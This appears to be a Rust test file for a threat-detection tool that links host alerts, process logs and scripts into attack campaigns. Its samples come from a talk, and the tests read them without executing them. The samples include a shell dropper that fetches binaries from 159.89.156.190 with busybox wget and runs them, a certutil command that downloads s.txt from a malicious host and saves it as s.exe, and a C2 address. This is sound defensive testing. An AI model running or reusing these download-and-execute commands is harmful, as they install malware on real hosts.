//! The two seeds' own cases: what the talk and the story of the worm show must come out of the same records.
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

mod common;

use std::fmt::Write as _;

use common::{Run, told};
use ringleader_model::findings::Node;

/// The shell script of the talk's slide on process graphs, its wrapped lines joined.
fn pty_script() -> String {
    let mut script = String::from("#!/bin/sh\n");
    for (n, pty) in [(1, 1), (2, 3), (3, 5)] {
        let _ = writeln!(
            script,
            "/bin/busybox wget -O /tmp/pty{pty} http://159.89.156.190/.y/pty{pty}; chmod +x /tmp/pty{pty}; \
             chmod 700 /tmp/pty{pty}; /tmp/pty{pty}; cp /bin/busybox /tmp/loop{n}; cat /tmp/pty{pty} > /tmp/loop{n}; \
             /tmp/loop{n} &"
        );
    }
    script
}

fn run_files(files: &[(&str, &str)]) -> Run {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    common::run(dir.path())
}

fn nodes(run: &Run) -> Vec<&Node> {
    run.findings.campaigns.iter().flat_map(|it| &it.nodes).collect()
}

fn indicators(run: &Run) -> Vec<(&str, &str)> {
    run.findings.indicators.iter().map(|it| (it.kind.name(), &*it.indicator)).collect()
}

const HOST: &str = "5d83b26b-0000-4a0a-9267-120000000001";

fn sas(topic: &str, time: u32, more: serde_json::Value) -> String {
    let mut row = serde_json::json!({
        "__topic__": topic, "__time__": time.to_string(), "uuid": HOST, "ip": "192.168.0.3",
    });
    row.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    format!("{row}\n")
}

/// The talk's slide on network behaviour: an alert names the C2 115.159.189.241, the log has /usr/bin/ujuyfa5.
#[test]
fn an_alert_about_a_c2_makes_the_process_a_c2_client() {
    let detail = serde_json::json!([
        {"name": "进程路径", "type": "text", "value": "/usr/bin/ujuyfa5"},
        {"name": "命令行", "type": "text", "value": "/usr/bin/ujuyfa5"},
        {"name": "目的IP", "type": "text", "value": "115.159.189.241"},
        {"name": "目的端口", "type": "text", "value": "6001"},
        {"name": "进程ID", "type": "text", "value": "3100"},
    ]);
    let alert = sas(
        "sas-security-log",
        1_572_855_702,
        serde_json::json!({
            "data_source": "aegis_suspicious_event", "name": "异常网络连接-主机与中控通信", "level": "serious",
            "status": "1", "unique_info": "u3", "start_time": "1572855702", "detail": detail.to_string(),
        }),
    );
    let process = |time, pid: &str, path: &str, cmd: &str, ppid: &str, parent: &str| {
        sas(
            "aegis-log-process",
            time,
            serde_json::json!({
                "cmdline": cmd, "username": "root", "pid": pid, "filename": path.rsplit('/').next(), "filepath": path,
                "ppid": ppid, "pfilename": parent.rsplit('/').next(), "pfilepath": parent,
            }),
        )
    };
    let connection = sas(
        "aegis-log-network",
        1_572_855_701,
        serde_json::json!({
            "src_ip": "192.168.0.3", "src_port": "41897", "dst_ip": "115.159.189.241", "dst_port": "6001",
            "dir": "out", "proto": "tcp", "status": "1", "proc_name": "ujuyfa5", "proc_path": "/usr/bin/ujuyfa5",
            "pid": "3100",
        }),
    );
    let log = [
        process(1_572_855_690, "3000", "/bin/bash", "bash", "2999", "/usr/sbin/sshd"),
        process(1_572_855_695, "3050", "/bin/chmod", "chmod 777 /usr/bin/ujuyfa5", "3000", "/bin/bash"),
        process(1_572_855_700, "3100", "/usr/bin/ujuyfa5", "/usr/bin/ujuyfa5", "3000", "/bin/bash"),
    ]
    .concat();
    for (what, files) in [
        ("the alert beside the process", vec![("alert.json", alert.as_str()), ("process.json", log.as_str())]),
        (
            "with the connection",
            vec![("alert.json", alert.as_str()), ("process.json", log.as_str()), ("network.json", connection.as_str())],
        ),
    ] {
        let run = run_files(&files);
        assert_eq!(told(&run, "/alert.json"), "alibaba_sas: 1 read; -", "{what}");
        assert_eq!(told(&run, "/process.json"), "alibaba_sas: 3 read; -", "{what}");
        let nodes = nodes(&run);
        let node = nodes.iter().find(|it| it.template.contains("ujuyfa5") && !it.template.contains("chmod"));
        let node = node.unwrap_or_else(|| panic!("{what}: no node of the process: {nodes:#?}"));
        assert!(node.network_roles.iter().any(|it| &**it == "c2"), "{what}: {node:#?}");
        assert!(node.observed_count > 0, "{what}: {node:#?}");
        // The role is that of the process, not of what ran beside it.
        let others = nodes.iter().filter(|it| it.template.contains("chmod"));
        assert!(others.clone().all(|it| it.network_roles.is_empty()), "{what}");
        assert_eq!(
            run.findings.alerted_hosts.as_deref().map(|it| it.iter().map(|it| &**it).collect()),
            Some(vec![HOST])
        );
    }
}

/// The talk's 2sh script, as a file that a honeypot or a responder kept: read, never run.
#[test]
fn a_script_becomes_the_processes_that_it_would_run() {
    let run = run_files(&[("2sh", &pty_script())]);
    assert_eq!(told(&run, "/2sh"), "shell_script: 1 read; -");
    let nodes = nodes(&run);
    assert!(!nodes.is_empty(), "no campaign");
    let has = |command: &str| nodes.iter().any(|it| *it.template == *command || it.sample.as_deref() == Some(command));
    for (n, pty) in [(1, 1), (2, 3), (3, 5)] {
        for command in [
            format!("/bin/busybox wget -O /tmp/pty{pty} http://159.89.156.190/.y/pty{pty}"),
            format!("chmod +x /tmp/pty{pty}"),
            format!("chmod 700 /tmp/pty{pty}"),
            format!("/tmp/pty{pty}"),
            format!("cp /bin/busybox /tmp/loop{n}"),
            format!("/tmp/loop{n}"),
        ] {
            assert!(has(&command), "{command}: {nodes:#?}");
        }
    }
    // Only the script itself was seen; what it would run is inferred.
    assert_eq!(nodes.iter().filter(|it| it.observed_count > 0).count(), 1, "{nodes:#?}");
    assert!(nodes.iter().filter(|it| it.inferred_count > 0).count() >= 18, "{nodes:#?}");
    let indicators = indicators(&run);
    for pty in [1, 3, 5] {
        let url = format!("http://159.89.156.190/.y/pty{pty}");
        assert!(indicators.contains(&("url", &url)), "{url}: {indicators:?}");
    }
    assert!(indicators.contains(&("ip", "159.89.156.190")), "{indicators:?}");
}

/// The same where the script is the body of an observed `sh -c`.
#[test]
fn the_script_and_its_log_are_one_campaign() {
    let mut log = String::from("id\ttime\thost\tfile_path\tcmd_line\tpid\tppid\tparent\n");
    log.push_str("1\t2019-11-04 08:21:40.27281\tweb1\t/usr/sbin/sshd\tsshd\t27288\t1\tsshd\n");
    log.push_str("2\t2019-11-04 08:21:41.27281\tweb1\t/bin/bash\tbash\t27301\t27288\tsshd\n");
    let mut pid = 27310;
    for (n, pty) in [(1, 1), (2, 3), (3, 5)] {
        for cmd in [
            format!("/bin/busybox wget -O /tmp/pty{pty} http://159.89.156.190/.y/pty{pty}"),
            format!("chmod +x /tmp/pty{pty}"),
            format!("chmod 700 /tmp/pty{pty}"),
            format!("/tmp/pty{pty}"),
            format!("cp /bin/busybox /tmp/loop{n}"),
            format!("/tmp/loop{n}"),
        ] {
            pid += 1;
            let path = cmd.split(' ').next().unwrap();
            let _ = writeln!(
                log,
                "{pid}\t2019-11-04 08:22:{:02}.27281\tweb1\t{path}\t{cmd}\t{pid}\t27301\tbash",
                pid - 27310
            );
        }
    }
    let run = run_files(&[("web1.tsv", &log), ("2sh", &pty_script())]);
    assert_eq!(told(&run, "/web1.tsv"), "plain_csv: 20 read; -");
    let with_url: Vec<_> = run
        .findings
        .campaigns
        .iter()
        .filter(|it| it.signature.iter().any(|it| &*it.value == "http://159.89.156.190/.y/pty1"))
        .collect();
    assert_eq!(with_url.len(), 1, "{with_url:#?}");
    assert_eq!(run.findings.gangs.len(), 1);
    let gang = &run.findings.gangs[0];
    assert!(gang.who.hosts.iter().any(|it| &**it == "web1"), "{gang:#?}");
    let behaviours: Vec<&str> = gang.what.behaviours.iter().map(|it| &*it.id).collect();
    for expect in ["downloads_then_runs", "overwrites_copied_program"] {
        assert!(behaviours.contains(&expect), "{expect} is not among {behaviours:?}");
    }
}

/// The process log of the talk, as its slide prints it.
#[test]
fn the_process_table_of_the_talk() {
    let mut table = String::from("id\ttime\tfile_path\tcmd_line\tpid\tppid\tparent\n");
    for n in 0..16 {
        let fraction = if n == 1 { 27276 } else { 27281 };
        let _ =
            writeln!(table, "{}\t2019-11-04 08:21:40.{fraction}\t/usr/sbin/sshd\tsshd\t{}\t1\tsshd", n + 1, 27288 + n);
    }
    let run = run_files(&[("web9.tsv", &table)]);
    assert_eq!(told(&run, "/web9.tsv"), "plain_csv: 16 read; -");
    let rows = &run.rows.processes;
    assert_eq!(rows.len(), 16);
    assert!(rows.iter().all(|it| &*it.host == "web9"), "the host is the file's name");
    assert_eq!(rows[0].source_event_id.as_deref(), Some("2"), "order is that of time, not of ids");
    assert!(rows.iter().any(|it| it.time.unwrap().to_string() == "2019-11-04T08:21:40.272760Z"));
    // Sixteen sshd are no attack.
    assert_eq!((run.findings.summary.gangs, run.findings.summary.hosts), (0, 1));
}

const SLIDE: &str = "关联异常\n\n2019-11-05\n\n2019-11-05 08:03:33\n\n异常网络连接-主动连接恶意下载源 待处理\n\n备注 | 处理\n\n\
    URL链接: http://wml.1103bye.xyz:8080/s.txt\n\n与该URL有关的漏洞:\n\n\
    User Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Win64; x64; Trident/4.0)\n\n恶意文件md5:\n\n\
    事件说明: 服务器正在通过HTTP请求连接一个可疑的恶意下载源。\n\n解决方案: 请排查发起连接的进程。\n";

/// The talk's third slide: an alert as the console prints it, and the process it must be joined to.
#[test]
fn the_alert_of_the_third_slide() {
    let at = |s: u32| format!("2019-11-05 08:03:{s:02}");
    let log = [
        common::line("1", &at(20), "win1", r"C:\Windows\System32\services.exe", 500, 4, "wininit.exe"),
        common::line("2", &at(25), "win1", r"C:\Windows\System32\cmd.exe /c start", 900, 500, r"C:\Windows\System32\services.exe"),
        common::line(
            "3",
            &at(30),
            "win1",
            r"C:\Windows\System32\certutil.exe -urlcache -split -f http://wml.1103bye.xyz:8080/s.txt C:\Windows\Temp\s.exe",
            901,
            900,
            r"C:\Windows\System32\cmd.exe",
        ),
    ]
    .concat();
    let run = run_files(&[("alert.txt", SLIDE), ("win1.ndjson", &log)]);
    assert_eq!(told(&run, "/alert.txt"), "alibaba_alert_text: 1 read; -");
    let nodes = nodes(&run);
    let node = nodes.iter().find(|it| it.template.contains("certutil")).unwrap_or_else(|| panic!("{nodes:#?}"));
    assert!(node.network_roles.iter().any(|it| &**it == "download_source"), "{node:#?}");
    assert!(indicators(&run).contains(&("url", "http://wml.1103bye.xyz:8080/s.txt")), "{:?}", indicators(&run));
    assert_eq!(run.findings.gangs.len(), 1);
}
